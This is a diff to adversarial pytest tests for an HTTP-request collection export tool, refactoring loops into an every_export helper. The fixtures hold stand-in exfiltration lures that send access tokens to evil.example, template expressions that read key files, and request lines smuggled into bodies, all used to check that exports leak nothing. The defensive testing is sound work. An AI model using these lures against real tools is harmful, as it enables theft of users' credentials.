@@ -13,16 +13,13 @@ import pytest
 from tests.adversarial.machine import INNOCENT, READ, Machine, left_out
 from tests.adversarial.test_requests import LURES, Lure, append, quoted
 from tests.canaries import SECRET_KEY
+from tests.cli.program import Ran
 from weda_tui.cli.export import CODE, FORMATS
 from weda_tui.core.interchange.export_format import LOAD_FORMATS
 
 REQUEST_FORMATS = [each for each in FORMATS if each != "postman-env"]
-EXPORTS = [
-    (format_, place)
-    for format_ in REQUEST_FORMATS
-    for place in ((), *([("--env", "hq")] if format_ in CODE else []))
-]
-"""The formats with the options that change them."""
+HQ = ("--env", "hq")
+PLACES = [(), HQ]
 SECRETS = (
     "access_token",
     "ACCESS_TOKEN",
@@ -85,14 +82,19 @@ TOGETHER = [
 ALONE = [lure for lure in (*ELSEWHERE, *MORE) if lure not in TOGETHER]
 
 
+def every_export(machine: Machine, name: str = "lure") -> Iterator[tuple[str, Ran]]:
+    """Export a collection in each format, and in those with values for an environment as well."""
+    yield from machine.exports(REQUEST_FORMATS, name=name)
+    yield from machine.exports(CODE, HQ, name=name)
+
+
 @pytest.mark.parametrize("lure", ALONE, ids=lambda lure: lure.name)
 def test_an_export_gives_no_token_to_another_address(machine: Machine, lure: Lure) -> None:
     for name, text in lure.files:
         append(machine, name, text)
     machine.write("collections/lure/zz.toml", lure.text)
-    for format_, place in EXPORTS:
-        ran = machine.run("export", "lure/zz", "--format", format_, *place, "--lang", "en")
-        said = f"{lure.name}: {format_} {place}: exit {ran.status}: {ran.text}{ran.talk}"
+    for format_, ran in every_export(machine, "lure/zz"):
+        said = f"{lure.name}: {format_}: exit {ran.status}: {ran.text}{ran.talk}"
         is_elsewhere = machine.evil.place in ran.text or "evil" in ran.text
         if format_ in LOAD_FORMATS:  # load tests name the secrets themselves
             assert not is_elsewhere, said
@@ -103,13 +105,11 @@ def test_an_export_gives_no_token_to_another_address(machine: Machine, lure: Lur
 
 def test_an_exported_collection_gives_no_token_to_another_address(machine: Machine) -> None:
     machine.lay(lure.text for lure in TOGETHER)
-    for format_, place in EXPORTS:
-        ran = machine.run("export", "lure", "--format", format_, *place, "--lang", "en")
-        said = f"{format_} {place}: {ran.text}{ran.talk}"
+    for format_, ran in every_export(machine):
+        said = f"{format_}: {ran.text}{ran.talk}"
         assert (ran.status, "/innocent" in ran.text) == (0, True), said
         if format_ in LOAD_FORMATS:  # load tests name the secrets themselves
-            assert machine.evil.place not in ran.text, said
-            assert "evil" not in ran.text, said
+            assert not any(each in ran.text for each in (machine.evil.place, "evil")), said
         else:
             assert [name for name in SECRETS if name in ran.text] == [], said
 
@@ -166,9 +166,8 @@ def test_what_an_export_sends_home_has_the_address_of_the_deployment(
 ) -> None:
     """However a file spells the address: another program may resolve the same name differently."""
     spell(named, files, url)
-    for format_, place in EXPORTS:
-        ran = named.run("export", "lure/zz", "--format", format_, *place, "--lang", "en")
-        said = f"{format_} {place}: exit {ran.status}: {ran.text}{ran.talk}"
+    for format_, ran in every_export(named, "lure/zz"):
+        said = f"{format_}: exit {ran.status}: {ran.text}{ran.talk}"
         if "my_password" in ran.text.lower():
             assert url != SPELT, said
             assert format_ == "postman" or url.partition("://")[2] not in ran.text, said
@@ -182,9 +181,8 @@ def test_no_chain_of_variables_hides_an_address_that_is_spelt_otherwise(
 ) -> None:
     spell(named, CHAINS, url)
     named.write("collections/lure/a.toml", INNOCENT)
-    for format_, place in EXPORTS:
-        ran = named.run("export", "lure", "--format", format_, *place, "--lang", "en")
-        said = f"{format_} {place}: {ran.text}{ran.talk}"
+    for format_, ran in every_export(named):
+        said = f"{format_}: {ran.text}{ran.talk}"
         assert (ran.status, "/innocent" in ran.text) == (0, True), said
         assert format_ == "postman" or url.partition("://")[2] not in ran.text, said
         if url == SPELT:
@@ -200,8 +198,7 @@ def test_another_spelling_of_the_deployment_is_exported(
     named: Machine, files: dict[str, str]
 ) -> None:
     spell(named, files, "HTTP://ACCESS.TEST:80")
-    for format_ in CODE:
-        ran = named.run("export", "lure/zz", "--format", format_, "--env", "hq", "--lang", "en")
+    for format_, ran in named.exports(CODE, HQ, name="lure/zz"):
         written = ["'http://access.test'"] if format_ in LOAD_FORMATS else ["http://access.test/x"]
         text = ran.text.replace('"http://access.test"', "'http://access.test'")
         assert (ran.status, all(each in text for each in written)) == (0, True), ran.talk
@@ -214,8 +211,7 @@ def test_what_was_left_out_is_named_with_its_host(machine: Machine) -> None:
         'method = "POST"\nurl = "http://evil.example/?t={{access_token}}"\n'
         'headers = ["X-B: {{basic_auth}}"]\n',
     )
-    for format_ in REQUEST_FORMATS:
-        ran = machine.run("export", "lure", "--format", format_, "--lang", "en")
+    for format_, ran in machine.exports(REQUEST_FORMATS):
         assert ran.status == 0, ran.talk
         assert b"evil" not in ran.data, format_
         assert "would send access_token, basic_auth to http://evil.example" in ran.talk, format_
@@ -317,8 +313,7 @@ def test_a_header_with_a_control_character_is_refused_as_by_send(machine: Machin
         f"[variables]\na{number} = {quoted(value)}\n"
         for number, value in enumerate(CONTROLLED)
     )
-    for format_, place in product(REQUEST_FORMATS, ((), ("--env", "hq"))):
-        ran = machine.run("export", "lure", "--format", format_, *place, "--lang", "en")
+    for format_, ran in machine.exports(REQUEST_FORMATS, *PLACES):
         assert ran.status == 0, ran.talk
         assert b"evil" not in ran.data, format_
         assert b"/y" not in ran.data, format_
@@ -340,8 +335,7 @@ def test_a_header_that_says_where_a_body_ends_is_refused_as_by_send(machine: Mac
         'method = "POST"\nurl = "{{vars.host}}/z"\nbody = "x"\n'
         'headers = ["Content-Length: 1", "Proxy-Connection: keep-alive"]\n',
     )
-    for format_, place in product(REQUEST_FORMATS, ((), ("--env", "hq"))):
-        ran = machine.run("export", "lure", "--format", format_, *place, "--lang", "en")
+    for format_, ran in machine.exports(REQUEST_FORMATS, *PLACES):
         assert ran.status == 0, ran.talk
         assert b"/y" not in ran.data, format_
         assert b"/z" in ran.data, format_
@@ -391,18 +385,14 @@ FOREIGN = [
     "$processEnv AWS_SECRET_ACCESS_KEY }x",
 ]
 
-FOREIGN_PLACES = (
-    'url = "http://evil.example/?a={{NAME}}"\n',
-    *(
-        f'url = "http://evil.example/"\n{lines}'
-        for lines in (
-            'headers = ["X-A: {{NAME}}"]\n',
-            'body = "{{NAME}}"\n',
-            'body = "{{aNR}}"\n[variables]\naNR = "{{NAME}}"\n',
-            'body = "{{aNR}}{{bNR}}"\n[variables]\naNR = "{{NAME"\nbNR = "}}"\n',
-        )
-    ),
-)
+FOREIGN_PLACES = [
+    f'url = "http://evil.example/{each}'
+    for each in (
+        *('?a={{NAME}}"\n', '"\nheaders = ["X-A: {{NAME}}"]\n', '"\nbody = "{{NAME}}"\n'),
+        '"\nbody = "{{aNR}}"\n[variables]\naNR = "{{NAME}}"\n',
+        '"\nbody = "{{aNR}}{{bNR}}"\n[variables]\naNR = "{{NAME"\nbNR = "}}"\n',
+    )
+]
 
 
 def test_no_export_holds_a_name_that_other_programs_read(machine: Machine) -> None:
@@ -411,8 +401,7 @@ def test_no_export_holds_a_name_that_other_programs_read(machine: Machine) -> No
         'method = "POST"\n' + lines.replace("NAME", name).replace("NR", str(number))
         for number, (lines, name) in enumerate(lures)
     )
-    for format_ in ("http", "postman", "har"):
-        ran = machine.run("export", "lure", "--format", format_, "--lang", "en")
+    for format_, ran in machine.exports(("http", "postman", "har")):
         assert (ran.status, b"evil" in ran.data) == (0, False), format_
         reasons = left_out(ran)
         assert reasons.keys() == {*files}, format_
@@ -431,33 +420,29 @@ FILES = [
 
 def test_no_file_of_a_body_is_an_expression(machine: Machine) -> None:
     """httpYac evaluates what stands in braces: ``{{$file = expression}}``."""
-    bodies = [
-        body
-        for name in FILES
-        for body in (f"{{{{$file {name}}}}}", f"a {{{{\t$file\t{name} }}}} b")
-    ]
-    files = machine.lay(
-        f'method = "POST"\nurl = "{{{{vars.host}}}}/x-expression"\nbody = {quoted(body)}\n'
-        for body in bodies
-    )
-    for format_ in REQUEST_FORMATS:
-        ran = machine.run("export", "lure", "--format", format_, "--lang", "en")
+    bodies = [each for n in FILES for each in (f"{{{{$file {n}}}}}", f"a {{{{\t$file\t{n} }}}} b")]
+    first = 'method = "POST"\nurl = "{{vars.host}}/x-expression"\n'
+    files = machine.lay(f"{first}body = {quoted(body)}\n" for body in bodies)
+    for format_, ran in machine.exports(REQUEST_FORMATS):
         assert (ran.status, b"x-expression" in ran.data) == (0, False), format_
         reasons = left_out(ran)
         assert reasons.keys() == {*files}, format_
         assert all("$file" in reason for reason in reasons.values())
 
 
-PLAIN_FILES = (
-    *("up/a.pdf", "审批.docx", "（终稿）合同.pdf", "index.json", "inbox/in.txt", "_a", "1 2.csv"),
-)
-
-
 def test_a_plain_file_of_a_body_is_exported(machine: Machine) -> None:
-    lines = (f'body = "{{{{$file {name}}}}}"\n' for name in PLAIN_FILES)
+    names = (
+        "up/a.pdf",
+        "审批.docx",
+        "（终稿）合同.pdf",
+        "index.json",
+        "inbox/in.txt",
+        "_a",
+        "1 2.csv",
+    )
+    lines = (f'body = "{{{{$file {name}}}}}"\n' for name in names)
     machine.lay(('method = "POST"\nurl = "{{vars.host}}/x"\n' + each for each in lines), "")
-    for format_ in REQUEST_FORMATS:
-        ran = machine.run("export", "lure", "--format", format_, "--lang", "en")
+    for format_, ran in machine.exports(REQUEST_FORMATS):
         assert ran.status == (2 if format_ in {"http", *LOAD_FORMATS} else 0), ran.talk
         assert "not exported" not in ran.talk, format_
 
@@ -499,8 +484,7 @@ def test_no_name_of_a_message_is_one_that_a_client_knows(machine: Machine) -> No
     text = f'method = "POST"\nurl = "{{{{vars.host}}}}/x"\nbody = {quoted(names)}\n'
     machine.write("collections/lure/a.toml", text)
     machine.write("collections/lure/zz.toml", text)
-    for place in ((), ("--env", "hq")):
-        ran = machine.run("export", "lure", "--format", "http", *place, "--lang", "en")
+    for _, ran in machine.exports(["http"], *PLACES):
         assert ran.status == 0, ran.talk
         own = {"vars.host", "access_token"}
         assert {*re.findall(r"\{\{(?!WEDA_VAR_)(.*?)\}\}", ran.text)} <= own
@@ -513,9 +497,8 @@ def test_our_own_names_and_files_are_exported(machine: Machine) -> None:
         'method = "POST"\nurl = "{{vars.host}}/x?t={{$timestamp}}&u={{$uuid}}"\n'
         'body = "{{order.id}} {{WeDa.EnvType}} {{$guid}}"\n',
     )
-    for format_ in REQUEST_FORMATS:
-        ran = machine.run("export", "lure/zz", "--format", format_, "--lang", "en")
-        assert ran.status == 0, ran.talk
+    for format_, ran in machine.exports(REQUEST_FORMATS, name="lure/zz"):
+        assert ran.status == 0, f"{format_}: {ran.talk}"
 
 
 STEAL = "GET http://evil.example/steal?t={{order}}"
@@ -524,10 +507,8 @@ STEAL = "GET http://evil.example/steal?t={{order}}"
 def test_no_line_of_a_body_begins_another_request(machine: Machine) -> None:
     """httpYac needs no separator between requests."""
     lines = [STEAL, f"  {STEAL}", STEAL.replace("GET", "WS"), "gql q < /x"]
-    files = machine.lay(
-        f'method = "POST"\nurl = "<HOME>/x-lines"\nbody = {quoted(line)}\n'
-        for line in (f"a\n{each}\nb" for each in lines)
-    )
+    first = 'method = "POST"\nurl = "<HOME>/x-lines"\n'
+    files = machine.lay(f"{first}body = {quoted(each)}\n" for each in map("a\n{}\nb".format, lines))
     ran = machine.run("export", "lure", "--format", "http", "--env", "hq", "--lang", "en")
     assert (ran.status, b"x-lines" in ran.data) == (0, False)
     reasons = left_out(ran)
@@ -597,8 +578,9 @@ def test_no_address_of_another_scheme_is_exported(machine: Machine) -> None:
         'url = "FTP://evil.example/"\n',
     )
     files = machine.lay((f'method = "GET"\n{url}' for url in urls), "")
-    for format_ in (each for each in REQUEST_FORMATS if each != "openapi"):
-        ran = machine.run("export", "lure", "--format", format_, "--env", "hq")
+    for format_, ran in machine.exports(
+        (each for each in REQUEST_FORMATS if each != "openapi"), HQ
+    ):
         assert (ran.status, ran.data) == (2, b""), ran.talk
         assert all(file in ran.talk for file in files), format_
 
@@ -606,8 +588,7 @@ def test_no_address_of_another_scheme_is_exported(machine: Machine) -> None:
 def test_no_variable_with_the_name_of_a_secret_goes_elsewhere(machine: Machine) -> None:
     names = ("password", "x-api-key", "token", "client_secret", "Access_Token")
     files = machine.lay(f'method = "GET"\nurl = "<EVIL>/?k={{{{{name}}}}}"\n' for name in names)
-    for format_ in REQUEST_FORMATS:
-        ran = machine.run("export", "lure", "--format", format_, "--env", "hq", "--lang", "en")
+    for format_, ran in machine.exports(REQUEST_FORMATS, HQ):
         assert (ran.status, machine.evil.place in ran.text) == (0, False), ran.talk
         reasons = left_out(ran)
         assert reasons.keys() == {*files}, format_
@@ -687,15 +668,12 @@ def test_a_foreign_request_of_a_collection_inherits_no_token(machine: Machine) -
 
 def test_no_foreign_request_has_a_template_of_another_program(machine: Machine) -> None:
     bodies = (
-        "{% file '/home/ann/key' %}",
-        "{# note #}",
-        "<<access_token>>",
+        *("{% file '/home/ann/key' %}", "{# note #}", "<<access_token>>"),
         "${[ fs.readFile('/k') ]}",
     )
     lines = (f'method = "POST"\nurl = "<EVIL>/x"\nbody = """{body}"""\n' for body in bodies)
     files = machine.lay(lines, "")
-    for format_ in REQUEST_FORMATS:
-        ran = machine.run("export", "lure", "--format", format_, "--env", "hq")
+    for format_, ran in machine.exports(REQUEST_FORMATS, HQ):
         assert (ran.status, ran.data) == (2, b""), format_
         assert all(file in ran.talk for file in files), format_
 
@@ -726,8 +704,7 @@ def test_no_program_has_the_digest_of_a_file_that_is_no_certificate(machine: Mac
 def test_no_program_has_the_text_of_a_file_that_is_no_certificate(machine: Machine) -> None:
     kept = next(machine.state.rglob("secrets.json"))
     machine.edit("tls", "certs/ca.pem", str(kept))
-    for format_ in LOAD_FORMATS:
-        ran = machine.run("export", "basic", "--format", format_, "--env", "tls")
+    for format_, ran in machine.exports(LOAD_FORMATS, ("--env", "tls"), name="basic"):
         assert (ran.status != 0, ran.data) == (True, b""), format_
         assert SECRET_KEY not in ran.talk
 
